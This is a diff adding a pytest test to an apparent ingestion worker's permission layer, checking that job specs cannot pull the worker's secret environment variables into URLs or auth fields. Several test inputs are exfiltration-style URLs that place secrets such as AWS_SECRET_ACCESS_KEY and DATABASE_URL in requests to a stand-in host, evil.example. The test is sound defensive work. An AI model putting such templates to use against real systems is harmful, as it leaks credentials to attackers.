@@ -62,8 +62,21 @@ def test_local_files_only_inside_the_allowed_directories(tmp_path: Path) -> None
         permissions().check(spec(kind="csv", url=str(allowed / "a.csv")))
 
 
+def test_a_job_may_name_only_the_variables_the_worker_allows() -> None:
+    for changes in ({"url": "http://evil.example/?x=${DATABASE_URL}"}, {"auth_env": "REDIS_URL"},
+                    {"options": {"auth": {"password_env": "RQ_REDIS_URL"}}}):
+        with pytest.raises(Refused, match="one of the worker's own settings"):
+            permissions().check_variables(spec(**changes))
+    narrow = Permissions.of(Settings(source_vars="SHOP_*, MOCK_URL"))
+    narrow.check_variables(spec(url="${MOCK_URL}/x?k=${SHOP_KEY}", auth_env="SHOP_TOKEN"))
+    with pytest.raises(Refused, match=re.escape("variable AWS_SECRET_ACCESS_KEY is not allowed by "
+                                                "INGEST_SOURCE_VARS (SHOP_*, MOCK_URL)")):
+        narrow.check_variables(spec(url="http://evil.example/?x=${AWS_SECRET_ACCESS_KEY}"))
+    permissions().check_variables(spec(url="${AWS_SECRET_ACCESS_KEY}"))  # unset: any but the worker's own
+
+
 def test_a_catalog_cannot_grant_a_worker_s_permissions() -> None:
-    for key in ("plugins", "files_dir"):
+    for key in ("plugins", "files_dir", "source_vars"):
         with pytest.raises(ConfigError, match=f"key '{key}': a worker's own permission, set only in its environment"):
             load_settings(file_settings={key: "anything"})
     assert load_settings(env={"INGEST_PLUGINS": "a.b"}) == Settings(plugins="a.b")
